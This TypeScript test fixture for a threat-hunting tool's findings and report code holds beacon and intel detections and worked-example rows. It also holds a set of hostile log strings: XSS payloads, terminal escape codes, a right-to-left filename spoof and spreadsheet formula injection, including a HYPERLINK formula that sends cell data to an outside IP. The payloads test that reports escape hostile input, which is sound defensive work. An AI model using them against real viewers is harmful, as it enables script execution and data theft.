/**
 * Detections and rows shared by the findings and report tests: the worked example of
 * docs/risk-ranking.md, and a hostile variant whose every log-derived string is an attack on a report.
 */
import type { DetectionInfo } from '../../src/detections/types.js';
import { createEvent, type Event, type Value } from '../../src/events/event.js';
import { mapRows, rankFindings, type Finding, type RankedFindings } from '../../src/findings/index.js';

export function row(fields: Record<string, Value>): Event {
  return Object.assign(createEvent(), fields);
}

export const BEACON: DetectionInfo = {
  id: 'c2h-beacon-interval',
  name: 'Beacon: regular check-ins',
  techniques: ['T1071.001', 'T1583.004'],
  severity: 'high',
  confidence: 'medium',
  riskScore: 60,
  riskGroup: 'beacon',
  guide: ['Check the parent process and how the image was started.', 'Look up the destination in passive DNS.'],
  response: ['Isolate the host if the process is not sanctioned.'],
  finding: {
    count: 'connections',
    timeline: 'times',
    risk_factor: 'score',
    evidence: [
      { field: 'period', unit: 'seconds' },
      { field: 'jitter', unit: 'ratio' },
      { field: 'score', unit: 'score' },
    ],
    explain: 'every {period:duration} ± {jitter:percent}, {connections:count} connections to {DestinationHostname}',
  },
};

export const SEED_HOURLY: DetectionInfo = {
  id: 'c2h-seed-hourly',
  name: 'Hourly connection consistency',
  techniques: ['T1583.004'],
  severity: 'medium',
  confidence: 'low',
  riskScore: 40,
  riskGroup: 'beacon',
  guide: ['Compare the hourly counts with the host baseline.'],
  response: ['Block the destination at the proxy if unexplained.'],
  finding: {
    count: 'TotalConnections',
    evidence: ['HoursActive', 'AvgPerHour', 'ConsistencyRatio'],
    explain: '{TotalConnections} connections over {HoursActive} hours (ratio {ConsistencyRatio:decimal})',
  },
};

export const INTEL: DetectionInfo = {
  id: 'c2h-intel-match',
  name: 'Known-bad destination',
  techniques: ['T1583.004'],
  severity: 'high',
  confidence: 'high',
  riskScore: 50,
  guide: ['Read the indicator source and its age.'],
  response: ['Block the indicator and hunt for it on other hosts.'],
  finding: { evidence: [{ field: 'indicator', unit: 'text' }, 'feed'], explain: 'matched {indicator} from {feed}' },
};

export const DGA: DetectionInfo = {
  id: 'c2h-dns-dga',
  name: 'Generated-looking domain',
  techniques: ['T1568.002'],
  severity: 'low',
  confidence: 'low',
  riskScore: 20,
  finding: { dest_domain: 'QueryName', evidence: [{ field: 'dga_score', unit: 'score' }], explain: '{QueryName} scores {dga_score}' },
};

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const RUNDLL = 'C:\\Windows\\System32\\rundll32.exe';
const T0 = 1_704_067_200; // 2024-01-01T00:00:00Z

/** The worked example's findings (docs/risk-ranking.md § Worked example). */
export function workedExampleFindings(): Finding[] {
  return [
    // F1: risk 60 × 0.9 = 54.
    ...mapRows(BEACON, [
      row({
        host: 'WS01', Image: PS, ProcessGuid: '{11111111-0000-0000-0000-000000000001}', DestinationIp: '203.0.113.10',
        DestinationHostname: 'c2.evil.test', DestinationPort: '443', connections: '5', score: '0.9',
        period: '60', jitter: '0.02', times: ['1704067200', '1704067260', '1704067320', '1704067380', '1704067440'],
      }),
      // F2: risk 60 × 0.5 = 30.
      row({
        host: 'WS01', Image: RUNDLL, DestinationIp: '203.0.113.11', DestinationHostname: 'cdn.evil.test',
        DestinationPort: '8443', connections: 12, score: 0.5, period: 300, jitter: 0.1,
        firstTime: T0 + 100, lastTime: T0 + 3600,
      }),
    ]),
    // F3: risk 40.
    ...mapRows(SEED_HOURLY, [
      row({
        host: 'WS01', Image: PS, DestinationIp: '203.0.113.10', DestinationHostname: 'c2.evil.test',
        Ports: ['443'], TotalConnections: '48', HoursActive: '2', AvgPerHour: '24', ConsistencyRatio: '0',
        FirstSeen: '2024-01-01 00:00:00', LastSeen: '2024-01-01 01:00:00',
      }),
      // F6 and F8 tie with each other on everything but last seen.
      row({
        host: 'WS02', Image: PS, DestinationIp: '198.51.100.20', DestinationHostname: '-', TotalConnections: 30,
        HoursActive: 3, FirstSeen: '2024-01-01 00:00:00', LastSeen: '2024-01-01 05:00:00',
      }),
      row({
        host: 'WS03', Image: PS, DestinationIp: '198.51.100.30', DestinationHostname: '-', TotalConnections: 30,
        HoursActive: 3, FirstSeen: '2024-01-01 00:00:00', LastSeen: '2024-01-01 04:00:00',
      }),
    ]),
    // F4: IP only; joins evil.test because 203.0.113.11 belongs to that object alone. Risk 50.
    ...mapRows(INTEL, [row({ host: 'ws01', DestinationIp: '203.0.113.11', indicator: '203.0.113.11', feed: 'feed.csv' })]),
    // F5: a name only. Risk 20.
    ...mapRows(DGA, [row({ host: 'WS01', Image: PS, QueryName: 'xkqjzpw.evil.test', dga_score: 0.93 })]),
  ];
}

export function workedExample(): RankedFindings {
  return rankFindings(workedExampleFindings());
}

/** Strings a hostile log could carry into any report field. */
export const HOSTILE = {
  script: '<script>alert(1)</script>',
  quotes: `"'><img src=x onerror=alert(2)>`,
  style: '</style><script>alert(3)</script>',
  url: 'javascript:alert(4)',
  separator: 'line\u2028break\u2029para',
  esc: 'red\u001b[31mtext\u001b]0;title\u0007',
  rlo: 'invoice\u202Egpj.exe',
  formula: '=HYPERLINK("http://198.51.100.1/?"&A1,"x")',
  comment: '--><!--',
  cdata: ']]><svg onload=alert(5)>',
} as const;

export const HOSTILE_DETECTION: DetectionInfo = {
  id: 'c2h-hostile',
  name: `Hostile ${HOSTILE.script}`,
  techniques: ['T1071.001', 'javascript:alert(6)'],
  severity: 'critical',
  confidence: 'high',
  riskScore: 90,
  guide: [HOSTILE.style, HOSTILE.url],
  response: [HOSTILE.quotes],
  finding: {
    timeline: 'times',
    evidence: [{ field: 'note', unit: 'text' }, 'list'],
    explain: 'cmd {CommandLine} via {ParentImage}',
  },
};

export function hostileRanked(): RankedFindings {
  const findings = mapRows(HOSTILE_DETECTION, [
    row({
      host: HOSTILE.script,
      Image: `C:\\x\\${HOSTILE.quotes}.exe`,
      DestinationIp: '192.0.2.66',
      DestinationHostname: `${HOSTILE.url}.evil.test`,
      User: HOSTILE.esc,
      CommandLine: `${HOSTILE.style} ${HOSTILE.separator} ${HOSTILE.rlo}`,
      ParentImage: HOSTILE.cdata,
      ParentCommandLine: HOSTILE.formula,
      ProcessGuid: '-@SUM(1+1)',
      note: HOSTILE.comment,
      list: [HOSTILE.formula, HOSTILE.script],
      times: ['1704067200', '1704067260', '1704067320'],
    }),
  ]);
  return rankFindings(findings);
}
